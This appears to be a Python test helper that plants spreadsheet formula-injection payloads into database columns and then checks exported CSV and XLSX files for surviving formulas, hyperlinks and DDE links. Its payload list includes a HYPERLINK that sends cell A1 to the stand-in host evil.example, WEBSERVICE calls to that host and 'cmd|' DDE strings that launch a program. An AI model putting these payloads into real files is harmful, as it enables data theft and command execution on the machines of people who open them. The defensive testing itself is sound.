"""What a spreadsheet runs, in every spelling that is known, and files read as a spreadsheet reads them: cell by cell,
without a word of the program's own guard.
"""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from xml.etree import ElementTree as ET  # nosec B405 - what our own writer wrote

from tests.web.canaries.planting import canary, planted_columns

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    "+1",
    "-x",
    "@x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    "' \"=1+1",
    "“=1+1",
    "''=1+1",
)
"""Each is run, or might be, by one program or another."""

HARMLESS = ("'", "''", "'Brien", "O'Neil", "3=3", "a-b", "4-223", "0412", "1e5", "", "_x003D_1", "a;=1")
"""Text that must come out as it went in; a lone quote among it."""

STARTS = re.compile(r"[\s'\"`´“”‘’]*[=+\-@\t\r\n＝＋－＠]|[\t\r\n]")
Rows = list[list[str | float]]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SHEET_TEXT = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet might run a cell of a text file: a quote before it says that it is text."""
    return not cell.startswith("'") and bool(STARTS.match(cell)) and not NUMBER.fullmatch(cell)


def spelling(shift: int) -> Callable[[str, str], str]:
    """Which formula is planted where, as SQL: another one in each row of a column, each with a word that no other row
    has, since some columns hold nothing twice.
    """
    places = {place: number for number, place in enumerate(planted_columns())}

    def spelt(table: str, column: str) -> str:
        cases = " ".join(f"WHEN {number} THEN {_quoted(one)}" for number, one in enumerate(FORMULAS))
        which = f"(id * 7 + {places[table, column] + shift}) % {len(FORMULAS)}"
        return f"CASE {which} {cases} END || ' {canary(table, column, '').removesuffix('z')}' || id || 'z'"

    return spelt


def _quoted(text: str) -> str:
    return " || ".join(
        f"char({ord(part)})" if part < " " else "'" + part.replace("'", "''") + "'"
        for part in re.split(r"([\t\r\n])", text)
        if part
    )


def tables_of(content: bytes, name: str) -> Iterator[tuple[str, Rows]]:
    """The tables of a file, with the files of an archive and the sheets of a workbook: text as text, numbers as such.

    Raises:
        AssertionError: a workbook holds a cell that is no text, number or day.
    """
    if name.endswith(".csv"):
        lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
        yield name, [list[str | float](line) for line in lines]
    elif name.endswith(".xlsx"):
        yield from _sheets(content, name)
    elif name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for one in archive.namelist():
                yield from tables_of(archive.read(one), one)


def _sheets(content: bytes, name: str) -> Iterator[tuple[str, Rows]]:
    """A workbook as it stands in its own markup: a reader might hide what a spreadsheet shows."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        assert not [one for one in names if "externalLink" in one or "ddeLink" in one or one.endswith(".bin")]
        for one in names:
            if one.startswith("xl/worksheets/sheet"):
                root = ET.fromstring(archive.read(one))  # noqa: S314 # nosec B314
                assert not list(root.iter(f"{SHEET_TEXT}f")), f"{name} has a formula"
                assert not list(root.iter(f"{SHEET_TEXT}hyperlink")), f"{name} has a link"
                yield f"{name} {one}", [[_cell(cell) for cell in row] for row in root.iter(f"{SHEET_TEXT}row")]


def _cell(cell: ET.Element) -> str | float:
    if cell.get("t") == "inlineStr":
        written = "".join(cell.itertext())
        return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), written)
    value = cell.find(f"{SHEET_TEXT}v")
    assert cell.get("t") in (None, "n"), cell.attrib
    return "" if value is None or value.text is None else float(value.text)
